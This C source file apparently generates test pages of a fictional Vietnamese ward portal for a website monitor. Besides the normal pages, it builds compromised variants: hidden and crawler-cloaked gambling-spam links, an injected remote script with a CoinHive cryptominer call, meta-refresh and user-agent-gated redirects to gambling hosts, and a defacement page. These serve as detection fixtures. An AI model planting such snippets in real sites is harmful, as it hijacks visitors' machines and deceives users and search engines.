/*
 * portal_pages.c — the HTML of the test ward portal: the home page, six
 * key pages, the news articles, the sitemap, the legacy Windows-1258 and
 * tag-soup pages, and the damaged variants. Every page carries what
 * changes on its own on a real portal (the date, the visitor counter, a
 * CSRF token and a script nonce, a rotating banner, the news list), so
 * that the monitor's baseline has something to learn. portal.h says why.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "portal.h"

/* ---- strings ------------------------------------------------------------ */

static void
sb_grow(struct sbuf *b, size_t more)
{
	size_t cap;
	char *s;

	if (b->len + more + 1 <= b->cap)
		return;
	cap = b->cap ? b->cap : 4096;
	while (cap < b->len + more + 1)
		cap *= 2;
	if ((s = realloc(b->s, cap)) == NULL) {
		fputs("portal: hết bộ nhớ — out of memory\n", stderr);
		abort();
	}
	b->s = s;
	b->cap = cap;
}

void
sb_addn(struct sbuf *b, const char *s, size_t n)
{
	sb_grow(b, n);
	memcpy(b->s + b->len, s, n);
	b->len += n;
	b->s[b->len] = '\0';
}

void
sb_add(struct sbuf *b, const char *s)
{
	sb_addn(b, s, strlen(s));
}

void
sb_printf(struct sbuf *b, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0)
		abort();
	sb_grow(b, (size_t)n);
	va_start(ap, fmt);
	vsnprintf(b->s + b->len, (size_t)n + 1, fmt, ap);
	va_end(ap);
	b->len += (size_t)n;
}

void
sb_html(struct sbuf *b, const char *s)
{
	for (; *s != '\0'; s++) {
		switch (*s) {
		case '&': sb_add(b, "&amp;"); break;
		case '<': sb_add(b, "&lt;"); break;
		case '>': sb_add(b, "&gt;"); break;
		case '"': sb_add(b, "&quot;"); break;
		case '\'': sb_add(b, "&#39;"); break;
		default: sb_addn(b, s, 1); break;
		}
	}
}

/* splitmix64 */
uint64_t
portal_rand(uint64_t *state)
{
	uint64_t z = (*state += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static const char *const variant_names[] = {
#define X(e, name) name,
	PORTAL_VARIANTS
#undef X
};

const char *
portal_variant_name(enum portal_variant v)
{
	return (unsigned)v < PORTAL_VARIANT_COUNT ? variant_names[v] : "?";
}

int
portal_variant_parse(const char *name)
{
	int i;

	for (i = 0; i < PORTAL_VARIANT_COUNT; i++)
		if (strcmp(name, variant_names[i]) == 0)
			return i;
	return -1;
}

/* ---- the content -------------------------------------------------------- */

/* The pool the news lists draw from (60 items, as on a ward portal). */
static const char *const news[] = {
	"Phường Thái Hòa tổ chức Hội nghị sơ kết công tác 9 tháng đầu năm",
	"Ra quân tổng vệ sinh môi trường hưởng ứng Ngày Chủ nhật xanh",
	"Triển khai cấp căn cước cho công dân trên địa bàn phường",
	"Hội nghị tiếp xúc cử tri với đại biểu Hội đồng nhân dân thành phố",
	"Khai giảng lớp bồi dưỡng kiến thức quốc phòng và an ninh năm 2026",
	"Phát động phong trào toàn dân bảo vệ an ninh Tổ quốc",
	"Tuyên truyền phòng, chống sốt xuất huyết tại các khu phố",
	"Trao quà cho các gia đình chính sách nhân dịp Tết Nguyên đán",
	"Kiểm tra công tác phòng cháy, chữa cháy tại các cơ sở kinh doanh",
	"Thông báo lịch tiếp công dân của Chủ tịch Ủy ban nhân dân phường",
	"Hướng dẫn thực hiện thủ tục hành chính trên Cổng dịch vụ công quốc gia",
	"Đại hội Chi bộ khu phố 3 nhiệm kỳ 2025 – 2030 thành công tốt đẹp",
	"Phường tổ chức ngày hội hiến máu tình nguyện lần thứ hai",
	"Tập huấn kỹ năng chuyển đổi số cho tổ công nghệ số cộng đồng",
	"Kế hoạch tuyển chọn và gọi công dân nhập ngũ năm 2027",
	"Ra mắt mô hình khu phố an toàn về an ninh trật tự",
	"Hội Liên hiệp Phụ nữ phường trao vốn hỗ trợ hội viên khó khăn",
	"Tổng kết Tháng hành động vì người cao tuổi Việt Nam",
	"Thông báo về việc thu gom rác thải sinh hoạt theo giờ",
	"Đoàn thanh niên phường ra quân chiến dịch Mùa hè xanh",
	"Lễ kỷ niệm ngày thành lập Mặt trận Tổ quốc Việt Nam",
	"Công bố quy hoạch chi tiết khu dân cư phía Bắc phường",
	"Phổ biến quy định mới về đăng ký thường trú, tạm trú",
	"Tăng cường quản lý trật tự đô thị, lòng lề đường",
	"Phường đạt chuẩn tiếp cận pháp luật năm 2025",
	"Hội thi tuyên truyền viên pháp luật giỏi cấp phường",
	"Phát động quyên góp ủng hộ đồng bào bị ảnh hưởng bởi bão lũ",
	"Kiểm tra an toàn thực phẩm tại các bếp ăn tập thể trường học",
	"Tổ chức tiêm chủng mở rộng cho trẻ em dưới 5 tuổi",
	"Hội nghị triển khai nhiệm vụ phát triển kinh tế – xã hội năm 2027",
	"Trao giấy chứng nhận quyền sử dụng đất cho các hộ dân",
	"Khánh thành nhà văn hóa khu phố 5",
	"Ngày hội Đại đoàn kết toàn dân tộc tại khu phố 2",
	"Thông báo tạm ngừng cung cấp điện để bảo trì lưới điện",
	"Phường tổ chức diễn tập phương án chữa cháy và cứu nạn, cứu hộ",
	"Tuyên dương học sinh giỏi và học sinh đạt giải các kỳ thi",
	"Triển khai thanh toán không dùng tiền mặt tại bộ phận một cửa",
	"Ra quân xử lý vi phạm hành lang an toàn giao thông",
	"Hội Cựu chiến binh phường tổng kết công tác năm",
	"Phát động Tết trồng cây đời đời nhớ ơn Bác Hồ",
	"Hướng dẫn người dân cài đặt và sử dụng ứng dụng VNeID",
	"Tổ chức lớp học tiếng Anh miễn phí cho thiếu nhi trong hè",
	"Kết quả rà soát hộ nghèo, hộ cận nghèo năm 2026",
	"Hội nghị đối thoại giữa Chủ tịch UBND phường với nhân dân",
	"Phường triển khai mô hình dân vận khéo trong xây dựng đô thị văn minh",
	"Thông báo lịch đổ rác thải cồng kềnh tháng này",
	"Kiểm tra việc chấp hành quy định về kinh doanh karaoke, quán bar",
	"Tuyên truyền phòng chống lừa đảo qua mạng cho người cao tuổi",
	"Lễ ra quân huấn luyện dân quân tự vệ năm 2026",
	"Họp mặt kỷ niệm ngày Nhà giáo Việt Nam 20 tháng 11",
	"Trao học bổng Vì em hiếu học cho học sinh có hoàn cảnh khó khăn",
	"Phường tổ chức giải bóng đá thiếu niên nhi đồng hè",
	"Khởi công nâng cấp tuyến đường nội bộ khu phố 4",
	"Tổng kết công tác cải cách hành chính năm 2026",
	"Thông báo kết quả bầu cử Trưởng khu phố nhiệm kỳ mới",
	"Phổ biến Luật Đất đai năm 2024 đến cán bộ và nhân dân",
	"Hội nghị sơ kết mô hình Camera an ninh khu phố",
	"Tổ chức Ngày hội văn hóa các dân tộc trên địa bàn",
	"Phường vận động người dân phân loại rác tại nguồn",
	"Lấy ý kiến nhân dân về dự thảo sửa đổi Hiến pháp",
};
#define NNEWS (sizeof(news) / sizeof(news[0]))

static const char *const banners[4][2] = {
	{"/images/banner-dai-hoi.jpg",
	    "Chào mừng Đại hội đại biểu Đảng bộ phường nhiệm kỳ 2025 – 2030"},
	{"/images/banner-chuyen-doi-so.jpg",
	    "Chuyển đổi số vì một phường Thái Hòa văn minh, hiện đại"},
	{"/images/banner-dich-vu-cong.jpg",
	    "Nộp hồ sơ trực tuyến trên Cổng dịch vụ công quốc gia"},
	{"/images/banner-an-ninh.jpg",
	    "Toàn dân tham gia bảo vệ an ninh Tổ quốc"},
};

static const char *const weekdays[7] = {
	"Chủ Nhật", "Thứ Hai", "Thứ Ba", "Thứ Tư", "Thứ Năm", "Thứ Sáu",
	"Thứ Bảy",
};

static const char *const paras[] = {
	"Thực hiện kế hoạch của Ủy ban nhân dân thành phố, Ủy ban nhân dân "
	"phường Thái Hòa đã chỉ đạo các ban, ngành, đoàn thể và 12 khu phố "
	"triển khai đồng bộ các nhiệm vụ, bảo đảm tiến độ và chất lượng.",
	"Tham dự có đồng chí Bí thư Đảng ủy, Chủ tịch Ủy ban nhân dân phường; "
	"đại diện Ủy ban Mặt trận Tổ quốc Việt Nam phường, các đoàn thể chính "
	"trị – xã hội và đông đảo nhân dân trên địa bàn.",
	"Theo báo cáo, trong thời gian qua, phường đã tiếp nhận và giải quyết "
	"đúng hạn 98,6% hồ sơ thủ tục hành chính; tỷ lệ hồ sơ nộp trực tuyến "
	"đạt 72%, tăng 15% so với cùng kỳ năm trước.",
	"Phát biểu chỉ đạo, đồng chí Chủ tịch Ủy ban nhân dân phường đề nghị "
	"các đơn vị tiếp tục nâng cao tinh thần trách nhiệm, tăng cường công "
	"tác tuyên truyền để người dân hiểu và đồng thuận thực hiện.",
	"Dịp này, Ủy ban nhân dân phường đã khen thưởng 8 tập thể và 15 cá "
	"nhân có thành tích xuất sắc trong phong trào thi đua yêu nước.",
	"Mọi thông tin chi tiết xin liên hệ bộ phận Tiếp nhận và trả kết quả, "
	"Ủy ban nhân dân phường Thái Hòa, điện thoại 0234 3822 xxx.",
};
#define NPARAS (sizeof(paras) / sizeof(paras[0]))

static const char *const submenu[4] = {
	"Thông tin chung", "Hướng dẫn", "Thông báo", "Lưu trữ",
};

/* The provinces' portals of the footer's link list. */
static const char *const gov[] = {
	"hanoi", "hochiminhcity", "danang", "haiphong", "cantho", "quangtri",
	"quangbinh", "quangnam", "nghean", "hatinh", "thanhhoa", "khanhhoa",
	"binhdinh", "gialai", "daklak", "lamdong", "dongnai", "binhduong",
	"angiang", "kiengiang",
};

static const char *const menu[][2] = {
	{"/", "Trang chủ"},
	{"/gioi-thieu.html", "Giới thiệu"},
	{"/tin-tuc/", "Tin tức – Sự kiện"},
	{"/thu-tuc-hanh-chinh.html", "Thủ tục hành chính"},
	{"/van-ban.html", "Văn bản"},
	{"/lich-cong-tac.html", "Lịch công tác"},
	{"/lien-he.html", "Liên hệ"},
};

/* The gambling spam of the injected variants: texts and foreign links. */
static const char *const spam[][2] = {
	{"http://nohu88.bet.test/", "Nổ hũ đổi thưởng uy tín nhất 2026"},
	{"http://taixiu.win.test/tai-xiu-la-nhu-the-nao",
	    "Tài xỉu là như thế nào? Chơi tài xỉu online"},
	{"http://gamebai.club.test/", "Game bài đổi thưởng – tặng 100K"},
	{"http://soicau.xoso.test/", "Soi cầu miền bắc hôm nay chính xác"},
	{"http://jun88.casino.test/", "Nhà cái Jun88 – cá cược thể thao"},
};
#define NSPAM (sizeof(spam) / sizeof(spam[0]))

/* ---- the parts of every page ------------------------------------------- */

static void
hex_token(uint64_t *rnd, char *out, size_t n)
{
	static const char hex[] = "0123456789abcdef";
	size_t i;
	uint64_t r = 0;

	for (i = 0; i + 1 < n; i++) {
		if (i % 16 == 0)
			r = portal_rand(rnd);
		out[i] = hex[r & 15];
		r >>= 4;
	}
	out[n - 1] = '\0';
}

/* "1.234.567" */
static void
sb_thousands(struct sbuf *b, uint64_t n)
{
	char d[32];
	int len, i;

	len = snprintf(d, sizeof(d), "%llu", (unsigned long long)n);
	for (i = 0; i < len; i++) {
		if (i > 0 && (len - i) % 3 == 0)
			sb_add(b, ".");
		sb_addn(b, d + i, 1);
	}
}

static void
page_head(struct portal_req *r, struct sbuf *b, const char *title,
    const char *charset, const char *extra_head)
{
	sb_printf(b, "<!DOCTYPE html>\n<html lang=\"vi\">\n<head>\n"
	    "<meta charset=\"%s\">\n"
	    "<meta name=\"viewport\" content=\"width=device-width, "
	    "initial-scale=1\">\n<title>", charset);
	sb_html(b, title);
	sb_add(b, "</title>\n<meta name=\"description\" content=\"Cổng thông "
	    "tin điện tử phường Thái Hòa – thông tin chỉ đạo, điều hành, thủ "
	    "tục hành chính, văn bản của Ủy ban nhân dân phường\">\n"
	    "<meta name=\"keywords\" content=\"phường Thái Hòa, UBND phường, "
	    "thủ tục hành chính, tin tức\">\n"
	    "<meta property=\"og:site_name\" content=\"Phường Thái Hòa\">\n"
	    "<link rel=\"stylesheet\" href=\"/css/portal.css?v=3.2.1\">\n"
	    "<link rel=\"icon\" href=\"/favicon.ico\">\n"
	    "<script src=\"/js/jquery-3.7.1.min.js\"></script>\n"
	    "<script src=\"/js/portal.js?v=3.2.1\"></script>\n"
	    "<script async src=\"https://www.googletagmanager.com/gtag/js?"
	    "id=G-THAIHOA26\"></script>\n");
	sb_printf(b, "<script nonce=\"%s\">window.dataLayer=window.dataLayer"
	    "||[];function gtag(){dataLayer.push(arguments);}gtag('js',new "
	    "Date());gtag('config','G-THAIHOA26');</script>\n", r->nonce);
	if (extra_head != NULL)
		sb_add(b, extra_head);
	sb_add(b, "</head>\n");
}

static void
page_header(struct portal_req *r, struct sbuf *b)
{
	char token[33];
	time_t t;
	struct tm tm;
	size_t i;

	/* The date moves on every fetch: a day per fetch, from today. */
	t = time(NULL) + (time_t)(r->visit % 3650) * 86400;
	gmtime_r(&t, &tm);
	hex_token(&r->rnd, token, sizeof(token));
	sb_add(b, "<body class=\"trang-chu\">\n<div id=\"top-bar\">\n"
	    "<div class=\"container\">\n");
	sb_printf(b, "<span class=\"ngay\">%s, ngày %02d/%02d/%04d</span>\n",
	    weekdays[tm.tm_wday], tm.tm_mday, tm.tm_mon + 1,
	    tm.tm_year + 1900);
	sb_add(b, "<span class=\"hotline\">Đường dây nóng: 0234 3822 xxx"
	    "</span>\n<form class=\"tim-kiem\" action=\"/tim-kiem\" "
	    "method=\"get\">");
	sb_printf(b, "<input type=\"hidden\" name=\"__RequestVerificationToken\" "
	    "value=\"%s\">", token);
	sb_add(b, "<input type=\"text\" name=\"q\" placeholder=\"Tìm kiếm…\">"
	    "<button type=\"submit\">Tìm</button></form>\n</div>\n</div>\n"
	    "<header id=\"header\">\n<div class=\"container\">\n"
	    "<a class=\"logo\" href=\"/\"><img src=\"/images/quoc-huy.png\" "
	    "alt=\"Quốc huy\"></a>\n<div class=\"ten-don-vi\">\n"
	    "<p class=\"cap-tren\">Ủy ban nhân dân thành phố Huế</p>\n"
	    "<h1>Cổng thông tin điện tử phường Thái Hòa</h1>\n</div>\n"
	    "</div>\n</header>\n<nav id=\"menu\">\n<ul>\n");
	for (i = 0; i < sizeof(menu) / sizeof(menu[0]); i++) {
		sb_printf(b, "<li class=\"menu-item\"><a href=\"%s\">%s</a>",
		    menu[i][0], menu[i][1]);
		if (i > 0 && i < 6) {
			size_t j;

			sb_add(b, "\n<ul class=\"sub-menu\">\n");
			for (j = 0; j < 4; j++)
				sb_printf(b, "<li><a href=\"%s?muc=%zu\">%s – "
				    "%s</a></li>\n", menu[i][0], j + 1,
				    menu[i][1], submenu[j]);
			sb_add(b, "</ul>\n");
		}
		sb_add(b, "</li>\n");
	}
	sb_add(b, "</ul>\n</nav>\n");
}

static void
page_footer(struct portal_req *r, struct sbuf *b)
{
	size_t i;

	sb_add(b, "<footer id=\"footer\">\n<div class=\"container\">\n"
	    "<div class=\"lien-ket\">\n<h3>Liên kết website</h3>\n<ul>\n"
	    "<li><a href=\"https://chinhphu.vn/\">Cổng thông tin điện tử "
	    "Chính phủ</a></li>\n"
	    "<li><a href=\"https://dichvucong.gov.vn/\">Cổng dịch vụ công "
	    "quốc gia</a></li>\n"
	    "<li><a href=\"https://hue.gov.vn/\">Cổng thông tin điện tử "
	    "thành phố Huế</a></li>\n"
	    "<li><a href=\"https://www.facebook.com/phuongthaihoa\">Trang "
	    "Facebook của phường</a></li>\n</ul>\n<select onchange=\""
	    "window.open(this.value)\">\n<option value=\"\">-- Cổng thông "
	    "tin các tỉnh, thành phố --</option>\n");
	for (i = 0; i < sizeof(gov) / sizeof(gov[0]); i++)
		sb_printf(b, "<option value=\"https://%s.gov.vn/\">Cổng thông "
		    "tin điện tử %s</option>\n", gov[i], gov[i]);
	sb_add(b, "</select>\n</div>\n"
	    "<div class=\"ban-quyen\">\n<p>Cơ quan chủ quản: Ủy ban nhân dân "
	    "phường Thái Hòa</p>\n<p>Địa chỉ: 25 Nguyễn Huệ, phường Thái "
	    "Hòa, thành phố Huế</p>\n<p>Điện thoại: 0234 3822 xxx – Email: "
	    "ubndthaihoa@hue.gov.vn</p>\n<p>Chịu trách nhiệm chính: Chủ tịch "
	    "Ủy ban nhân dân phường</p>\n</div>\n<div class=\"thong-ke\">\n"
	    "<p class=\"truy-cap\">Lượt truy cập: ");
	sb_thousands(b, 1234567 + r->visit);
	sb_printf(b, "</p>\n<p class=\"truc-tuyen\">Đang trực tuyến: %u</p>\n",
	    (unsigned)(5 + portal_rand(&r->rnd) % 90));
	sb_add(b, "</div>\n</div>\n</footer>\n");
	sb_printf(b, "<script nonce=\"%s\">var PORTAL={csrf:'", r->nonce);
	{
		char tok[41];

		hex_token(&r->rnd, tok, sizeof(tok));
		sb_add(b, tok);
	}
	sb_printf(b, "',visit:%llu};$(function(){Portal.init(PORTAL);});"
	    "</script>\n</body>\n</html>\n", (unsigned long long)r->visit);
}

/* Ten news items from a window of the pool that moves on every fetch, with
 * the first two swapped at random: order and the newest items change. */
static void
news_list(struct portal_req *r, struct sbuf *b, unsigned count)
{
	unsigned start, i, k;
	time_t t = time(NULL);
	struct tm tm;

	bool swap = portal_rand(&r->rnd) % 2;

	start = (unsigned)(r->visit % NNEWS);
	sb_add(b, "<ul class=\"tin-moi\">\n");
	for (i = 0; i < count; i++) {
		k = (start + i) % NNEWS;
		if (i < 2 && swap)
			k = (start + 1 - i) % NNEWS;
		t -= 3600 * (time_t)(1 + k % 7);
		gmtime_r(&t, &tm);
		sb_printf(b, "<li><a href=\"/tin-tuc/%u.html\">%s</a> "
		    "<span class=\"ngay-dang\">(%02d/%02d/%04d)</span></li>\n",
		    k + 1, news[k], tm.tm_mday, tm.tm_mon + 1,
		    tm.tm_year + 1900);
	}
	sb_add(b, "</ul>\n");
}

static void
spam_block(struct sbuf *b, const char *open, const char *close)
{
	size_t i;

	sb_add(b, open);
	sb_add(b, "<h3>Nổ hũ – tài xỉu – game bài đổi thưởng</h3>\n<ul>\n");
	for (i = 0; i < NSPAM; i++)
		sb_printf(b, "<li><a href=\"%s\">%s</a></li>\n", spam[i][0],
		    spam[i][1]);
	sb_add(b, "</ul>\n");
	sb_add(b, close);
}

static void
sidebar(struct portal_req *r, struct sbuf *b)
{
	sb_add(b, "<aside id=\"sidebar\">\n<div class=\"box\">\n"
	    "<h3>Dịch vụ công trực tuyến</h3>\n<ul>\n"
	    "<li><a href=\"https://dichvucong.gov.vn/p/home/dvc-tra-cuu-ho-so"
	    ".html\">Tra cứu hồ sơ</a></li>\n"
	    "<li><a href=\"/thu-tuc-hanh-chinh.html\">Bộ thủ tục hành chính"
	    "</a></li>\n<li><a href=\"/lien-he.html\">Phản ánh, kiến nghị"
	    "</a></li>\n</ul>\n</div>\n<div class=\"box\">\n"
	    "<h3>Tin đọc nhiều</h3>\n");
	news_list(r, b, 5);
	sb_add(b, "</div>\n</aside>\n");
}

/* ---- the pages ---------------------------------------------------------- */

static void
home(struct portal_req *r, struct sbuf *b)
{
	const char *const *bn;
	bool spam_vis, spam_hid;

	spam_vis = r->variant == PORTAL_GAMBLING_VISIBLE ||
	    (r->variant == PORTAL_CLOAKED && r->crawler);
	spam_hid = r->variant == PORTAL_GAMBLING_HIDDEN;
	page_head(r, b, "Cổng thông tin điện tử phường Thái Hòa", "utf-8",
	    spam_hid ? "<style>.seo-links{display:none}</style>\n" : NULL);
	page_header(r, b);
	bn = banners[portal_rand(&r->rnd) % 4];
	sb_printf(b, "<div id=\"banner\"><img src=\"%s\" alt=\"%s\"></div>\n",
	    bn[0], bn[1]);
	sb_add(b, "<main id=\"main\" class=\"container\">\n"
	    "<section class=\"tin-noi-bat\">\n<h2>Tin tức – Sự kiện</h2>\n");
	news_list(r, b, 10);
	sb_add(b, "<p class=\"xem-them\"><a href=\"/tin-tuc/\">Xem tất cả tin "
	    "tức</a></p>\n</section>\n");
	if (spam_vis)
		spam_block(b, "<section class=\"doi-tac\">\n", "</section>\n");
	if (spam_hid) {
		spam_block(b, "<div class=\"seo-links\">\n", "</div>\n");
		sb_add(b, "<div style=\"position:absolute;left:-9999px;"
		    "top:-9999px\"><a href=\"http://okvip.bet.test/\">Link "
		    "vào OKVIP – nhà cái uy tín</a> <a href=\"http://"
		    "hi88.game.test/\">Hi88 nổ hũ</a></div>\n");
	}
	sb_add(b, "<section class=\"thong-bao\">\n<h2>Thông báo</h2>\n<p>Ủy ban "
	    "nhân dân phường Thái Hòa thông báo lịch tiếp công dân định kỳ vào "
	    "sáng thứ Năm hằng tuần tại trụ sở Ủy ban nhân dân phường.</p>\n"
	    "<p>Bộ phận một cửa làm việc từ thứ Hai đến sáng thứ Bảy; sáng "
	    "7 giờ 30 – 11 giờ 30, chiều 13 giờ 30 – 17 giờ.</p>\n"
	    "</section>\n</main>\n");
	sidebar(r, b);
	if (r->variant == PORTAL_SCRIPT_INJECTED)
		sb_add(b, "<script src=\"https://static.betcdn.test/js/"
		    "analytics.min.js\"></script>\n<script>var miner = new "
		    "CoinHive.Anonymous('k8Zr2aVbH1thaihoa', {throttle: 0.3});"
		    "miner.start();</script>\n");
	page_footer(r, b);
}

static void
defaced(struct sbuf *b)
{
	sb_add(b, "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n"
	    "<title>Hacked by Ghost Squad</title>\n<style>body{background:"
	    "#000;color:#0f0;text-align:center;font-family:monospace}</style>"
	    "\n</head>\n<body>\n<h1>Hacked by Ghost Squad</h1>\n"
	    "<img src=\"https://i.imgur-cdn.test/skull.gif\" alt=\"\">\n"
	    "<p>Your security is zero. We were here.</p>\n"
	    "<p>Greetz: Shadow, N3tR1pp3r, all members</p>\n"
	    "<marquee>Owned by Ghost Squad — contact: t.me/ghostsquad"
	    "</marquee>\n</body>\n</html>\n");
}

static const char *const keypages[][2] = {
	{"/gioi-thieu.html", "Giới thiệu"},
	{"/thu-tuc-hanh-chinh.html", "Thủ tục hành chính"},
	{"/tin-tuc/", "Tin tức – Sự kiện"},
	{"/lien-he.html", "Liên hệ"},
	{"/van-ban.html", "Văn bản"},
	{"/lich-cong-tac.html", "Lịch công tác"},
};

static void
keypage_body(struct portal_req *r, struct sbuf *b, int which)
{
	time_t t;
	struct tm tm;
	int i;

	switch (which) {
	case 0:
		sb_add(b, "<h2>Giới thiệu chung</h2>\n<p>Phường Thái Hòa nằm "
		    "ở phía Bắc thành phố Huế, có diện tích tự nhiên 2,85 "
		    "km², dân số hơn 18.000 người, chia thành 12 khu phố.</p>"
		    "\n<h3>Lãnh đạo Ủy ban nhân dân phường</h3>\n<table class="
		    "\"lanh-dao\">\n<tr><th>Họ và tên</th><th>Chức vụ</th>"
		    "<th>Điện thoại</th></tr>\n<tr><td>Nguyễn Văn Thành</td>"
		    "<td>Chủ tịch</td><td>0234 3822 101</td></tr>\n<tr><td>"
		    "Trần Thị Hằng</td><td>Phó Chủ tịch</td><td>0234 3822 102"
		    "</td></tr>\n<tr><td>Lê Quang Đức</td><td>Phó Chủ tịch"
		    "</td><td>0234 3822 103</td></tr>\n</table>\n<h3>Chức "
		    "năng, nhiệm vụ</h3>\n<p>Ủy ban nhân dân phường là cơ quan "
		    "hành chính nhà nước ở địa phương, chịu trách nhiệm trước "
		    "Hội đồng nhân dân phường và cơ quan hành chính nhà nước "
		    "cấp trên.</p>\n");
		break;
	case 1:
		sb_add(b, "<h2>Bộ thủ tục hành chính cấp phường</h2>\n<table "
		    "class=\"tthc\">\n<tr><th>STT</th><th>Tên thủ tục</th><th>"
		    "Lĩnh vực</th><th>Mức độ</th></tr>\n");
		{
			static const char *const tt[][2] = {
				{"Đăng ký khai sinh", "Hộ tịch"},
				{"Đăng ký kết hôn", "Hộ tịch"},
				{"Đăng ký khai tử", "Hộ tịch"},
				{"Chứng thực bản sao từ bản chính", "Chứng thực"},
				{"Chứng thực chữ ký", "Chứng thực"},
				{"Đăng ký thường trú", "Cư trú"},
				{"Xác nhận tình trạng hôn nhân", "Hộ tịch"},
				{"Đăng ký hộ kinh doanh", "Kinh tế"},
			};
			for (i = 0; i < 8; i++)
				sb_printf(b, "<tr><td>%d</td><td><a href=\"https:"
				    "//dichvucong.gov.vn/p/home/dvc-chi-tiet-thu-"
				    "tuc-hanh-chinh.html?ma_thu_tuc=%d\">%s</a>"
				    "</td><td>%s</td><td>Toàn trình</td></tr>\n",
				    i + 1, 1000 + i, tt[i][0], tt[i][1]);
		}
		sb_add(b, "</table>\n");
		break;
	case 2:
		sb_add(b, "<h2>Tin tức – Sự kiện</h2>\n");
		news_list(r, b, 20);
		sb_add(b, "<div class=\"phan-trang\"><a href=\"/tin-tuc/?page=2"
		    "\">Trang sau »</a></div>\n");
		break;
	case 3:
		sb_add(b, "<h2>Liên hệ</h2>\n<p>Ủy ban nhân dân phường Thái "
		    "Hòa</p>\n<p>Địa chỉ: 25 Nguyễn Huệ, phường Thái Hòa, "
		    "thành phố Huế</p>\n<p>Điện thoại: 0234 3822 xxx</p>\n<p>"
		    "Thư điện tử: <a href=\"mailto:ubndthaihoa@hue.gov.vn\">"
		    "ubndthaihoa@hue.gov.vn</a></p>\n<form class=\"phan-anh\" "
		    "method=\"post\" action=\"/lien-he.html\"><label>Họ và tên"
		    " <input name=\"ten\"></label><label>Nội dung <textarea "
		    "name=\"noi_dung\"></textarea></label><button>Gửi phản ánh"
		    "</button></form>\n");
		break;
	case 4:
		sb_add(b, "<h2>Văn bản chỉ đạo, điều hành</h2>\n<table class="
		    "\"van-ban\">\n<tr><th>Số ký hiệu</th><th>Trích yếu</th>"
		    "<th>Ngày ban hành</th></tr>\n");
		for (i = 0; i < 10; i++)
			sb_printf(b, "<tr><td>%d/KH-UBND</td><td><a href=\"/"
			    "van-ban/%d.pdf\">Kế hoạch thực hiện %s</a></td>"
			    "<td>%02d/%02d/2026</td></tr>\n", 120 + i, 120 + i,
			    news[(i * 7) % NNEWS], 1 + i * 2, 1 + i % 12);
		sb_add(b, "</table>\n<p><a href=\"" PORTAL_CP1258_PATH "\">"
		    "Thông báo cũ (lưu trữ)</a></p>\n");
		break;
	default:
		t = time(NULL);
		gmtime_r(&t, &tm);
		sb_add(b, "<h2>Lịch công tác tuần của lãnh đạo UBND phường</h2>"
		    "\n<table class=\"lich\">\n<tr><th>Thứ</th><th>Nội dung"
		    "</th><th>Chủ trì</th></tr>\n");
		for (i = 1; i <= 6; i++)
			sb_printf(b, "<tr><td>%s</td><td>%s</td><td>Chủ tịch "
			    "UBND phường</td></tr>\n", weekdays[i],
			    news[(i * 11) % NNEWS]);
		sb_add(b, "</table>\n");
		break;
	}
}

static void
keypage(struct portal_req *r, struct sbuf *b, int which)
{
	char title[200];
	const char *extra = NULL;
	char refresh[300];

	snprintf(title, sizeof(title), "%s – Cổng thông tin điện tử phường "
	    "Thái Hòa", keypages[which][1]);
	/* The redirecting variant: a meta refresh here, a script there. */
	if (r->variant == PORTAL_REDIRECTING && which == 0) {
		snprintf(refresh, sizeof(refresh), "<meta http-equiv=\"refresh\""
		    " content=\"0; url=http://jun88.casino.test:%u/\">\n",
		    r->port);
		extra = refresh;
	}
	page_head(r, b, title, "utf-8", extra);
	page_header(r, b);
	sb_add(b, "<main id=\"main\" class=\"container\">\n<div class=\""
	    "breadcrumb\"><a href=\"/\">Trang chủ</a> » ");
	sb_add(b, keypages[which][1]);
	sb_add(b, "</div>\n<article class=\"noi-dung\">\n");
	keypage_body(r, b, which);
	sb_add(b, "</article>\n</main>\n");
	sidebar(r, b);
	if (r->variant == PORTAL_REDIRECTING && which == 4)
		sb_add(b, "<script>if(!/bot|crawl|spider/i.test(navigator."
		    "userAgent)){window.location.replace(\"http://hi88.game."
		    "test/?utm_source=thaihoa\");}</script>\n");
	page_footer(r, b);
}

static void
article(struct portal_req *r, struct sbuf *b, unsigned n)
{
	char title[300];
	uint64_t seed = n;
	unsigned i, np;

	if (n <= NNEWS)
		snprintf(title, sizeof(title), "%s", news[n - 1]);
	else
		snprintf(title, sizeof(title), "%s (bài %u)",
		    news[(n - 1) % NNEWS], n);
	page_head(r, b, title, "utf-8", NULL);
	page_header(r, b);
	sb_add(b, "<main id=\"main\" class=\"container\">\n<div class=\""
	    "breadcrumb\"><a href=\"/\">Trang chủ</a> » <a href=\"/tin-tuc/"
	    "\">Tin tức – Sự kiện</a></div>\n<article class=\"bai-viet\">\n"
	    "<h2>");
	sb_html(b, title);
	sb_printf(b, "</h2>\n<p class=\"ngay-dang\">Ngày đăng: %02u/%02u/2026"
	    "</p>\n", 1 + n % 28, 1 + n % 12);
	np = 3 + (unsigned)(portal_rand(&seed) % 4);
	for (i = 0; i < np; i++)
		sb_printf(b, "<p>%s</p>\n",
		    paras[(n + i * 5 + (unsigned)(portal_rand(&seed) % 3)) %
		    NPARAS]);
	sb_printf(b, "<p class=\"tac-gia\">Tin: Văn phòng HĐND – UBND phường"
	    "</p>\n<figure><img src=\"/uploads/2026/tin-%u.jpg\" alt=\"Ảnh "
	    "minh họa\"><figcaption>Quang cảnh buổi làm việc</figcaption>"
	    "</figure>\n</article>\n<section class=\"tin-lien-quan\">\n<h3>"
	    "Tin liên quan</h3>\n", n);
	news_list(r, b, 5);
	sb_add(b, "</section>\n</main>\n");
	sidebar(r, b);
	page_footer(r, b);
}

/* The legacy page (its text; portal.c encodes it to Windows-1258). */
static void
legacy(struct portal_req *r, struct sbuf *b)
{
	sb_add(b, "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Transitional"
	    "//EN\">\n<html>\n<head>\n<meta http-equiv=\"Content-Type\" "
	    "content=\"text/html; charset=windows-1258\">\n<title>Thông báo "
	    "về việc tổ chức lấy ý kiến nhân dân – Phường Thái Hòa</title>\n"
	    "</head>\n<body>\n<div id=\"noidung\">\n<h2>Thông báo về việc tổ "
